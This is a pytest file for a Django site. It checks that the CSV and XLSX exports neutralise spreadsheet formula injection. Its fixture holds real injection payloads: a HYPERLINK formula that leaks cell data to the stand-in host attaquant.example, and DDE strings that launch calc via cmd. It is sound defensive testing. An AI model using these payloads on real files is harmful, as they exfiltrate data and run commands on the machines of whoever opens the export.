"""CSV/spreadsheet formula injection (OWASP): a cell starting with = + - @ TAB or CR gets a
leading apostrophe in every export a spreadsheet may open: the public CSV, the statistics CSV,
and the admin's CSV/XLSX export; numbers (a negative longitude) stay numbers."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from projects.models import InterventionMode, Project

pytestmark = pytest.mark.django_db

FORMULAS = {
    "name": '=HYPERLINK("http://attaquant.example/?"&A1,"Cliquez")',
    "summary": "+1+cmd|' /C calc'!A0",
    "description": "-2+3",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "how_to_get_involved": "\t=1+1",
    "delivery_text": "\r=1+1",
}


@pytest.fixture
def formula_project(published_project):
    Project.objects.filter(pk=published_project.pk).update(**FORMULAS)
    published_project.refresh_from_db()
    return published_project


def read_csv(response, delimiter=","):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=delimiter))


@pytest.mark.parametrize("query, delimiter", [("", ","), ("?separateur=point-virgule&bom=1", ";")])
def test_public_csv_export_neutralises_formulas(client, formula_project, query, delimiter):
    rows = read_csv(client.get("/projets/export.csv" + query), delimiter)
    (row,) = [row for row in rows if row["slug"] == formula_project.slug]
    assert row["name"] == "'" + FORMULAS["name"]
    assert row["summary"] == "'" + FORMULAS["summary"]
    for text_cell in (value for row in rows for value in row.values() if value):
        assert not text_cell.startswith(("=", "+", "@", "\t", "\r")), text_cell
        if text_cell.startswith("-"):  # only numbers may start with a minus sign
            float(text_cell.replace(",", "."))
    west = [row for row in rows if row["longitude"].startswith("-")]
    assert west, "projects west of Greenwich keep a negative, numeric longitude"


def test_statistics_csv_neutralises_editable_labels(client, formula_project):
    mode = InterventionMode.objects.filter(projects=formula_project).first() or InterventionMode.objects.first()
    formula_project.intervention_modes.add(mode)
    InterventionMode.objects.filter(pk=mode.pk).update(name="=1+1")
    response = client.get("/statistiques/modes-intervention.csv")
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    assert "'=1+1" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_admin_export_neutralises_formulas(superuser_client, formula_project, file_format):
    response = superuser_client.get(reverse("admin:projects_project_export", args=[file_format]))
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if file_format == "csv":
        rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
        row = next(row for row in rows if row["slug"] == formula_project.slug)
        assert row["nom"] == "'" + FORMULAS["name"]
        assert row["description"] == "'" + FORMULAS["description"]
    else:
        sheet = load_workbook(io.BytesIO(body))["Projets"]
        values = [cell for row in sheet.iter_rows(values_only=True) for cell in row]
        assert "'" + FORMULAS["name"] in values
        assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


@pytest.fixture
def superuser_client(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("export", "export@example.org"))
    return client
